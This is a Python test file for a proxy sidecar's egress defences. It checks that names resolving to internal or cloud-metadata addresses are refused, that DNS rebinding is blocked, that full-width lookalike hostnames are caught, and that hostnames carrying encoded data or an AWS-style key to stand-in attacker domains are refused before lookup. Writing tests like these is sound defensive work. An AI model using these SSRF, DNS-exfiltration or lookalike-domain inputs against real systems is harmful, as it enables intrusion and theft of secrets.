"""Class 12: names that resolve inside, and DNS rebinding.

Rule: after the name is judged as written, it is resolved once; every address it leads
to is judged (loopback, private, link-local and metadata addresses are refused unless
listed as internal; the sidecar's own listeners always); and the connection goes to
the address that was judged, whatever the DNS answers a moment later.
"""

from __future__ import annotations

import pytest

from tests.support.dns import ScriptedDns
from tests.support.raw import closed_by_peer, connect, proxy_socket, read_response
from tests.support.servers import UPSTREAM_HOST


def _get(sidecar, url: str, host: str) -> tuple[int, bytes]:  # type: ignore[no-untyped-def]
    sock = proxy_socket(str(sidecar.info.proxy))
    sock.sendall(f"GET {url} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    status, _, body = read_response(sock)
    sock.close()
    return status, body


@pytest.mark.parametrize(
    ("address", "reason"),
    [
        ("127.0.0.3", b"loopback"),
        ("169.254.169.254", b"metadata"),
        ("10.1.2.3", b"private"),
        ("::1", b"loopback"),
        ("fd00:ec2::254", b"metadata"),
    ],
)
def test_a_public_looking_name_pointing_inside_is_refused(
    make_sidecar, tcp_recorder, address, reason
):
    inside = tcp_recorder("127.0.0.3")
    dns = ScriptedDns(innocent_example=[address])
    sidecar = make_sidecar(resolver=dns.resolver())
    host = f"innocent.example:{inside.port}"
    status, body = _get(sidecar, f"http://{host}/allow/inside", host)
    assert status == 403, body
    assert b"SSRF" in body
    assert reason in body
    assert inside.connections.items == []


def test_rebinding_between_judgement_and_connect_changes_nothing(make_sidecar, upstream,
                                                                 tcp_recorder):  # fmt: skip
    # The same port on a forbidden address: where a second lookup would send us.
    forbidden = tcp_recorder("127.0.0.3")
    dns = ScriptedDns(rebind_example=[[UPSTREAM_HOST], ["127.0.0.3"]])
    sidecar = make_sidecar(resolver=dns.resolver())
    for port, path in ((upstream.http_port, "/allow/rebind"), (forbidden.port, "/allow/rb2")):
        host = f"rebind.example:{port}"
        _get(sidecar, f"http://{host}{path}", host)
    assert upstream.requests_to("/allow/rebind")  # judged 127.0.0.2, connected there
    assert forbidden.connections.items == []  # the second answer was never used
    assert dns.lookups == ["rebind.example"]  # resolved once


def test_a_name_only_the_sidecar_resolves_is_connected_by_address(make_sidecar, upstream):
    # The system resolver has never heard of this name: the connection can only work if
    # the sidecar connects to the address it judged (and not to the name, again).
    dns = ScriptedDns(only_sidecar_knows=[UPSTREAM_HOST])
    sidecar = make_sidecar(resolver=dns.resolver())
    host = f"only.sidecar.knows:{upstream.http_port}"
    status, _ = _get(sidecar, f"http://{host}/allow/pinned", host)
    assert status == 200
    assert upstream.requests_to("/allow/pinned")


def test_tunnels_are_checked_at_connect_too(make_sidecar, tcp_recorder):
    inside = tcp_recorder("127.0.0.3")
    dns = ScriptedDns(db_example=["127.0.0.3"])
    sidecar = make_sidecar(backend="local", raw_tcp_hosts=f"db.example:{inside.port}",
                           resolver=dns.resolver())  # fmt: skip
    status, _, sock = connect(str(sidecar.info.proxy), f"db.example:{inside.port}")
    assert status == 200
    sock.sendall(b"\x00\x00\x00\x08\x04\xd2\x16\x2f")  # a PostgreSQL SSLRequest
    assert closed_by_peer(sock)
    assert inside.connections.items == []


def test_international_spellings_are_judged_as_the_name_they_resolve_as(make_sidecar, upstream,
                                                                        tmp_path):  # fmt: skip
    policy = tmp_path / "deny-paste.yaml"
    policy.write_text("name: p\nrules:\n  - {rule_id: no-paste, match: {hosts: [pastebin.example]},"
                      " action: DENY, priority: 10}\n")  # fmt: skip
    dns = ScriptedDns(pastebin_example=[UPSTREAM_HOST])
    sidecar = make_sidecar(backend="local", policy=str(policy), resolver=dns.resolver())
    # "pastebin" in full-width letters: IDNA (NFKC) maps it to pastebin.example
    fullwidth = "".join(chr(ord(c) + 0xFEE0) for c in "pastebin") + ".example"
    host = f"{fullwidth}:{upstream.http_port}"
    sock = proxy_socket(str(sidecar.info.proxy))
    sock.sendall(f"GET http://{host}/allow/idn HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    status, _, body = read_response(sock)
    sock.close()
    # mitmproxy's HTTP/1 parser refuses non-ASCII request lines itself (400); where a
    # name can arrive unparsed (a redirected connection's Host header, see
    # tests/unit/test_transparent.py) the sidecar judges its ASCII form.
    assert status in (400, 403), body
    status, _, sock = connect(str(sidecar.info.proxy), f"{fullwidth}:443")
    sock.close()
    assert status in (400, 403)
    ascii_host = f"pastebin.example:{upstream.http_port}"
    sock = proxy_socket(str(sidecar.info.proxy))
    sock.sendall(f"GET http://{ascii_host}/allow/idn HTTP/1.1\r\nHost: {ascii_host}\r\n\r\n"
                 .encode())  # fmt: skip
    status, _, body = read_response(sock)
    sock.close()
    assert status == 403
    assert b"POLICY:no-paste" in body
    assert upstream.requests_to("/allow/idn") == []


def test_a_name_that_does_not_resolve_is_said_so(make_sidecar):
    dns = ScriptedDns()
    sidecar = make_sidecar(resolver=dns.resolver())
    status, body = _get(sidecar, "http://nowhere.example/allow/x", "nowhere.example")
    assert status == 502
    assert b"DESTINATION_UNRESOLVABLE" in body


def test_a_name_carrying_data_is_never_looked_up(make_sidecar, scan_api):
    """The scan API double allows everything: the sidecar's own destination rules still
    refuse data in DNS labels, before its resolver is asked (a lookup would leak it)."""
    dns = ScriptedDns()
    sidecar = make_sidecar(resolver=dns.resolver())
    host = "4141414b4951583452585a54374e4d32.3f9a1c7e2b5d8046.evil.example"
    status, body = _get(sidecar, f"http://{host}/allow/dns", host)
    assert status == 403, body
    assert b"DNS_EXFILTRATION" in body
    assert scan_api.scans.items  # the request was judged by the scan API (ALLOW) ...
    assert dns.lookups == []  # ... and still never looked up


def test_a_credential_written_into_the_name_is_refused_unlooked_up(make_sidecar):
    """A key as a DNS label leaves in the sidecar's own lookup (and the SNI): it is scanned
    in the case it was written in, and refused before any lookup."""
    dns = ScriptedDns(**{"AKIAQX4RZT7NM2VBK5WJ_attacker_example": ["93.184.216.34"]})
    sidecar = make_sidecar(backend="local", resolver=dns.resolver())
    host = "AKIAQX4RZT7NM2VBK5WJ.attacker.example"
    status, body = _get(sidecar, f"http://{host}/x", host)
    assert status == 403, body
    assert b"SECRET_EXFILTRATION" in body
    status, doc, sock = connect(str(sidecar.info.proxy), f"{host}:443")
    sock.close()
    assert status == 403
    # refused for the name alone: a key-shaped label reads as data before it is scanned
    assert {"SECRET_EXFILTRATION", "DNS_EXFILTRATION"} & set(doc["reason_codes"])
    assert dns.lookups == []
